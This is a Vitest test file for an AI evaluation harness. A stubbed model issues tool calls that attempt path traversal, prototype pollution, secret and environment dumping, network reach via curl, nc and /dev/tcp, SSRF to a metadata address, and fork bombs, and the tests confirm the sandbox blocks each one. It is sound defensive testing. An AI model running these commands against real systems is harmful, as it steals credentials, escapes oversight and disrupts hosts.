// biome-ignore-all lint/suspicious/noTemplateCurlyInString: these are commands of a shell
import { createServer } from "node:net";
import { readdirSync } from "node:fs";
import { dirname } from "node:path";
import { afterAll, expect, test } from "vitest";
import { cli, repository } from "../support/project.ts";
import { reply, type StubCompletion, startStub } from "../support/stub-server.ts";
import { LANGUAGE, SECRET, serverOf, type TrialEvent, trialsOf } from "./support.ts";

const open: (() => void)[] = [];
afterAll(() => {
  for (const close of open.splice(0)) close();
});

/** A server of the host that nobody may reach; tells how many tried. */
async function hostServer(): Promise<{ port: number; hits(): number }> {
  let hits = 0;
  const server = createServer((socket) => {
    hits += 1;
    socket.end("HTTP/1.1 200 OK\r\ncontent-length: 12\r\n\r\nhost-sesame!");
  });
  await new Promise<void>((ready) => server.listen(0, "127.0.0.1", ready));
  open.push(() => server.close());
  const address = server.address();
  return { port: typeof address === "object" && address !== null ? address.port : 0, hits: () => hits };
}

const CASE = `id: world
turns: [{ user: "Go." }]
world:
  files: { notes.txt: "hello world" }
  pages: { "https://docs.example.test/start": { text: "npm i tool" } }
expect: { completion: [{ answer: { contains: done } }] }
`;
const SKILLS = {
  "skills/alpha/SKILL.md": "---\nname: alpha\ndescription: Alpha.\n---\nAlpha body.\n",
  "skills/alpha/references/note.md": "alpha note",
};

type Call = { name: string; arguments: string | object };

/** Runs one trial an arm in which the model makes these calls, one reply each, and returns each call's result. */
async function play(
  calls: readonly Call[],
  files = {},
): Promise<{ results: TrialEvent[]; cwd: string; stderr: string }> {
  const stub = await startStub(({ body }) => {
    const at = body.messages?.filter(({ role }) => role === "assistant").length ?? 0;
    const call = calls[at];
    return reply(call === undefined ? "done" : ({ content: "", calls: [call] } satisfies StubCompletion));
  });
  const cwd = repository({
    "prompts/base.md": `Work.${LANGUAGE}`,
    "cases/world.yaml": CASE,
    "evalkit.yaml": "model: m\nretries: 0\ntrials: 1\nlimits: { turns: 100 }\n",
    ...SKILLS,
    ...files,
  });
  const run = await cli(["run", "--aa", "--baseline", "main", "--run-id", "r", "-j", "1"], {
    cwd,
    env: { ...serverOf(stub.url), HOST_TOKEN: "host-token-0123456789" },
  });
  const trials = trialsOf(cwd);
  expect({ stderr: run.stderr, outcomes: trials.map(({ outcome }) => outcome) }).toMatchObject({
    outcomes: [{ status: "finished" }, { status: "finished" }],
  });
  const results = trials[0]?.events.filter(({ type }) => type === "tool") ?? [];
  expect(results).toHaveLength(calls.length);
  return { results, cwd, stderr: run.stderr };
}

const PATHS = [
  "../../../../etc/passwd",
  "/etc/passwd",
  "..",
  "../",
  "a/../../b",
  "..\\..\\etc\\passwd",
  "C:\\Windows\\win.ini",
  "C:/Windows",
  "\\\\server\\share",
  "~/.ssh/id_rsa",
  "~",
  "notes.txt\u0000.md",
  "notes\n.txt",
  "/proc/self/environ",
  "/dev/stdin",
  "file:///etc/passwd",
  "x".repeat(5000),
  " /etc/passwd",
  "./../x",
];

test("paths that lead out of the world are refused by every file tool, and make no file anywhere", async () => {
  const calls = PATHS.flatMap((path): Call[] => [
    { name: "read_file", arguments: { path } },
    { name: "write_file", arguments: { path, content: "pwned" } },
    { name: "list_dir", arguments: { path } },
    { name: "search_files", arguments: { pattern: "o", path } },
  ]);
  const { results, cwd } = await play(calls);
  for (const [at, { result = "", error }] of results.entries()) {
    const path = PATHS[Math.floor(at / 4)] ?? "";
    // `file:///etc/passwd` is a relative path like any other: a folder named `file:`.
    if (path.startsWith("file:")) expect(result).not.toContain("root:");
    else expect({ path, result: result.slice(0, 200), error }).toMatchObject({ error: true });
    expect(result).not.toMatch(/root:x:|PATH=/);
    expect(result.length).toBeLessThan(1000);
  }
  expect(readdirSync(cwd).sort()).toEqual([
    ".git",
    "cases",
    "evalkit.yaml",
    "prompts",
    "recordings",
    "reports",
    "skills",
  ]);
  expect(readdirSync(dirname(cwd))).not.toContain("b");
});

test("names and arguments out of JavaScript's own cupboard are words like any other", async () => {
  const names = [
    "../../x",
    "__proto__",
    "constructor",
    "toString",
    "hasOwnProperty",
    "",
    " ",
    "\u0000",
    "alpha/../alpha",
    "ALPHA",
    "x".repeat(100_000),
  ];
  const { results } = await play([
    ...names.map((name): Call => ({ name: "load_skill", arguments: { name } })),
    { name: "load_skill", arguments: '{"name":"alpha","__proto__":{"polluted":true}}' },
    { name: "load_skill", arguments: '{"__proto__":{"name":"alpha"}}' },
    { name: "read_file", arguments: '{"path":"notes.txt","__proto__":{"offset":5}}' },
    { name: "__proto__", arguments: "{}" },
    { name: "constructor", arguments: "{}" },
    { name: "toString", arguments: "{}" },
    { name: "read_file", arguments: '{"path":"__proto__"}' },
    { name: "write_file", arguments: '{"path":"__proto__","content":"x"}' },
    { name: "read_file", arguments: '{"path":"__proto__"}' },
    { name: "write_file", arguments: '{"path":"constructor/prototype","content":"x"}' },
    { name: "list_dir", arguments: "{}" },
    { name: "read_file", arguments: '{"path":"toString"}' },
    { name: "load_skill", arguments: '{"name":"alpha"}' },
  ]);
  for (const { result, error } of results.slice(0, names.length)) {
    expect(error).toBe(true);
    expect(result).toMatch(/not found|doesn't fit|don't fit/);
    expect(result?.length).toBeLessThan(2000);
  }
  const rest = results.slice(names.length);
  expect(rest.map(({ error }) => error)).toEqual([
    true,
    true,
    true,
    true,
    true,
    true,
    true,
    false,
    false,
    false,
    false,
    true,
    false,
  ]);
  expect(rest[9]?.result).toContain("Created");
  expect(rest[10]?.result).toContain("__proto__");
});

test.each([
  [`${'{"a":'.repeat(50_000)}1${"}".repeat(50_000)}`, "nested"],
  [`{"path":${"[".repeat(100_000)}${"]".repeat(100_000)}}`, "nested"],
  [`{"path":"${"x".repeat(2_000_000)}"}`, "longer"],
  ['{"path":"notes.txt"', "JSON"],
  ['{"path":"notes.txt"}{"path":"x"}', "JSON"],
  ["[]", "array"],
  ["null", "null"],
  ['"notes.txt"', "string"],
  ["1e999", "number"],
  ['{"path":1}', "don't fit"],
  ['{"path":["notes.txt"]}', "don't fit"],
  ['{"path":"notes.txt","offset":1e308}', "lines"],
  ['{"path":"notes.txt","offset":-1}', "don't fit"],
  ['{"path":"notes.txt","path":"../x"}', "workspace"],
  ["\ud800", "JSON"],
])("arguments that are no fit object (%#) are a result that says so", async (raw, says) => {
  const { results } = await play([{ name: "read_file", arguments: raw }]);
  expect(results[0]?.error).toBe(true);
  expect(results[0]?.result).toContain(says);
  expect(results[0]?.result?.length).toBeLessThan(2000);
});

test("commands see the case's world: no host file, no environment, no process, no network, no interpreter", async () => {
  const host = await hostServer();
  const at = `127.0.0.1:${host.port}`;
  const commands = [
    "env",
    "printenv",
    "export -p; set; declare -p",
    "echo $HOST_TOKEN $OPENAI_API_KEY ${PATH} $HOME $USER $SECRET",
    "cat /etc/passwd /etc/shadow /proc/self/environ /proc/1/cmdline /proc/self/maps",
    "ls -la / /root /home /proc /dev /tmp ..",
    "find / -type f | head -200",
    "cat ../../../../../../../../etc/passwd",
    "ln -s /etc/passwd link; cat link; readlink -f link",
    "ln /etc/passwd hard; cat hard",
    `curl -s http://${at}/; curl http://localhost:${host.port}; curl -x http://${at} http://docs.example.test`,
    `wget -qO- http://${at}/`,
    `echo hi > /dev/tcp/127.0.0.1/${host.port}; cat < /dev/tcp/127.0.0.1/${host.port}`,
    `exec 3<>/dev/tcp/127.0.0.1/${host.port}; cat <&3`,
    `nc 127.0.0.1 ${host.port}; telnet 127.0.0.1 ${host.port}; ssh x@127.0.0.1`,
    "curl file:///etc/passwd; curl -T notes.txt http://x; curl --config /etc/passwd; curl -o /etc/pwned https://docs.example.test/start",
    "node -e 'console.log(process.env)'; python3 -c 'import os; print(os.environ)'; perl -e 'print %ENV'; ruby -e 'p ENV'; php -r 'x'; deno; bun",
    "js-exec -c 'console.log(1)'; qjs; sqlite3 x .shell; git log; sudo id; su; docker ps",
    'awk \'BEGIN { system("id"); print ENVIRON["HOST_TOKEN"]; "id" | getline x; print x; getline y < "/etc/passwd"; print y }\'',
    "sed -n '1e id' notes.txt; sed 's/x/id/e' notes.txt; sed 'w /etc/pwned' notes.txt; sed 'r /etc/passwd' notes.txt",
    "find . -exec id ';'; xargs -a /etc/passwd; echo id | xargs sh -c",
    "kill -9 1; kill -9 $$; kill -9 $PPID; killall node; reboot; shutdown now",
    "jq -n 'env'; jq -n '$ENV'; jq -n 'input_filename'; jq --slurpfile x /etc/passwd -n '$x'",
    "source /etc/profile; . /etc/passwd; eval 'cat /etc/passwd'; exec cat /etc/passwd; command cat /etc/passwd; builtin cat /etc/passwd",
    "bash -c 'cat /etc/passwd'; sh /etc/passwd; /bin/sh -c env; /usr/bin/env",
    "tar xf /etc/passwd; tar cf - /etc | cat; gunzip < /etc/passwd; unzip x; zip -r x /etc",
    "ps aux; top -b -n1; lsof; mount; df; uname -a; hostname; whoami; id; nproc; free",
    "history; cat ~/.bash_history; cat ~/.ssh/id_rsa; ls -la ~",
    "open('/etc/passwd'); import os; require('fs')",
  ];
  const { results, cwd } = await play(
    commands.map((command): Call => ({ name: "execute_command", arguments: { command } })),
  );
  for (const [n, { result = "" }] of results.entries()) {
    const told = { command: commands[n], result };
    for (const text of [
      "host-token",
      SECRET,
      "root:x:",
      "host-sesame",
      cwd,
      "npm_config",
      process.env.PATH ?? "nothing",
    ]) {
      expect(told).not.toMatchObject({ result: expect.stringContaining(text) });
    }
    expect(result).toMatch(/\[exit code \d+\]$/);
  }
  expect(host.hits()).toBe(0);
});

test("runaway commands end, soon and the same way each time: loops, forks, floods, bombs", async () => {
  const commands = [
    "while true; do :; done",
    "while :; do while :; do :; done; done",
    "until false; do echo x; done",
    "for ((;;)); do :; done",
    ":(){ :|:& };:",
    "f() { f; }; f",
    "f() { f | f & }; f",
    "yes",
    "yes > big.txt",
    "cat /dev/zero",
    "cat /dev/urandom | head -c 100000000",
    "head -c 1000000000 /dev/zero",
    "dd if=/dev/zero of=big bs=1M count=100000",
    "seq 1 1000000000",
    "seq 1 1000000000 | wc -l",
    "printf '%1000000000s' x",
    "printf 'x%.0s' {1..100000000}",
    "echo {1..100000000}",
    "echo {a..z}{a..z}{a..z}{a..z}{a..z}{a..z}{a..z}",
    "x=x; while :; do x=$x$x; done",
    "x=$(printf 'a%.0s' $(seq 1 30000)); echo $x | grep -E '^(a+)+$b'; [[ $x =~ ^(a+)+b$ ]]; echo ${x//+(a)b/c} | wc -c",
    "x=$(printf 'a%.0s' $(seq 1 30000)); echo \"$x\" | sed -E 's/(a|aa)+$/x/; s/(a*)*b/y/' | wc -c",
    "echo aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa | awk '/^(a+)+b$/ { print }'",
    "echo '\"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\"' | jq 'test(\"^(a+)+b$\")'",
    "awk 'BEGIN { while (1) x = x \"a\" }'",
    "awk 'BEGIN { for (;;) ; }'",
    "sed ':a; s/x/xx/; ba' <<< x",
    "jq -n '[limit(1000000000; repeat(1))] | length'",
    "jq -n 'def f: f; f'; jq -n 'last(range(1000000000))'",
    "sleep 1000000",
    "sleep infinity & wait",
    "while :; do sleep 1; done",
    "mkfifo p; cat p; read x; cat",
    "i=0; while :; do echo x > f$i; i=$((i+1)); done",
    "mkdir -p $(printf 'a/%.0s' $(seq 1 5000))",
    "for i in {1..200}; do mkdir -p a; cd a; done; pwd | wc -c",
    "x=$(printf 'a%.0s' {1..40}); [[ $x =~ ^(a+)+b$ ]]; [[ $x == *a*a*a*a*a*a*a*b ]]; echo ${x//+(a)+(a)b/c}",
    `echo $((${"1+".repeat(30_000)}1))`,
    `echo '${"[".repeat(20_000)}${"]".repeat(20_000)}' | jq .`,
    `${"(".repeat(5000)}echo x${")".repeat(5000)}`,
    "yq '.' <<< 'a: &a [x,x,x,x]\nb: &b [*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b]\nd: &d [*c,*c,*c,*c]\ne: [*d,*d,*d,*d]'",
    "cat notes.txt >> notes.txt; cat notes.txt notes.txt > a; for i in $(seq 1 60); do cat a a > b; mv b a; done",
    "echo $((9999999999999999999 ** 99999)); echo $((1/0)); echo $((2**63))",
    "bc <<< '9^9^9^9'; expr 9999999999 '*' 99999999999; factor 9999999999999999999999",
    "sort /dev/zero; tac /dev/zero; rev /dev/zero; md5sum /dev/zero; base64 /dev/zero; od /dev/zero",
    "find / | xargs -n1 -P100 sh -c 'find /'",
    "trap 'echo again; kill $$' EXIT; exit; trap '' INT TERM; while :; do :; done",
    "eval \"$(printf 'echo x;%.0s' $(seq 1 100000))\" | wc -l",
    "a=(); while :; do a+=(x); done",
    "diff <(seq 1 20000) <(seq 20000 -1 1) | wc -l",
    "comm <(yes) <(yes); paste <(yes) <(yes); join <(yes) <(yes)",
    "echo 'x' | tr 'x' '\\n' | split -l 1 -a 5 - part; csplit notes.txt 1 '{*}'",
    "gzip -c notes.txt > a.gz; for i in 1 2 3 4 5 6 7 8; do gzip -c a.gz > b.gz; mv b.gz a.gz; done",
    "head -c 20000000 /dev/zero | gzip -c > bomb.gz; gunzip -c bomb.gz | wc -c",
    "timeout 1 yes | wc -l; watch -n 0 ls; nohup yes &",
    "xargs < /dev/zero; shuf -r /dev/zero; shuf -i 1-1000000000",
    "column -t <(seq 1 30000); fold -w 1 <<< $(printf 'a%.0s' $(seq 1 30000)) | wc -l; expand -t 100000000 <<< $'\\t'",
    "date -d '999999999999 years'; date +%1000000000N; printf '%(%Y)T' 99999999999999999",
  ];
  const { results } = await play(
    commands.map((command): Call => ({ name: "execute_command", arguments: { command } })),
  );
  const { results: again } = await play(
    commands.map((command): Call => ({ name: "execute_command", arguments: { command } })),
  );
  for (const [n, { result = "" }] of results.entries()) {
    expect({ command: commands[n], size: result.length < 25_000 }).toMatchObject({ size: true });
    expect(result).toMatch(/\[exit code \d+\]$/);
    if (!/random|shuf|\$\$/.test(commands[n] ?? ""))
      expect({ command: commands[n], result: again[n]?.result }).toEqual({ command: commands[n], result });
  }
});

test("a page's or server's address is looked up in the case's pages only", async () => {
  const host = await hostServer();
  const urls = [
    `http://127.0.0.1:${host.port}/`,
    `http://localhost:${host.port}`,
    `http://[::1]:${host.port}/`,
    `http://2130706433:${host.port}/`,
    `http://0x7f.1:${host.port}/`,
    `http://docs.example.test@127.0.0.1:${host.port}/`,
    "file:///etc/passwd",
    "data:text/html,<script>",
    "javascript:alert(1)",
    "ftp://127.0.0.1/",
    "http://169.254.169.254/latest/meta-data/",
    "https://docs.example.test/../../etc/passwd",
    "http://",
    "x".repeat(100_000),
    "https://__proto__/",
    "__proto__",
    "constructor",
  ];
  const { results } = await play(
    urls.flatMap((url): Call[] => [
      { name: "web_fetch", arguments: { url } },
      { name: "browser_navigate", arguments: { url } },
      { name: "take_snapshot", arguments: {} },
    ]),
  );
  expect(host.hits()).toBe(0);
  for (const { result = "", name, error } of results) {
    expect(result).not.toMatch(/host-sesame|root:x:|ami-id/);
    expect(result.length).toBeLessThan(1000);
    if (name !== "take_snapshot") expect(error).toBe(true);
  }
});

test("hundreds of calls in one reply, the same ids, empty names: each has a result, and the trial ends", async () => {
  const stub = await startStub(({ body }) => {
    if ((body.messages?.length ?? 0) > 2) return reply("done");
    const calls = Array.from({ length: 500 }, (_, n) => ({
      id: "same",
      name: n % 5 === 0 ? "nope" : "read_file",
      arguments: '{"path":"notes.txt"}',
    }));
    return reply({ content: "", calls });
  });
  const cwd = repository({
    "prompts/base.md": `Work.${LANGUAGE}`,
    "cases/world.yaml": CASE,
    "evalkit.yaml": "model: m\nretries: 0\ntrials: 1\n",
  });
  await cli(["run", "--aa", "--baseline", "main", "--run-id", "r"], { cwd, env: serverOf(stub.url) });
  const [trial] = trialsOf(cwd);
  const tools = trial?.events.filter(({ type }) => type === "tool") ?? [];
  expect(tools).toHaveLength(500);
  expect(new Set(tools.map(({ callId }) => callId)).size).toBe(500);
  expect(trial?.status).toBe("finished");
});
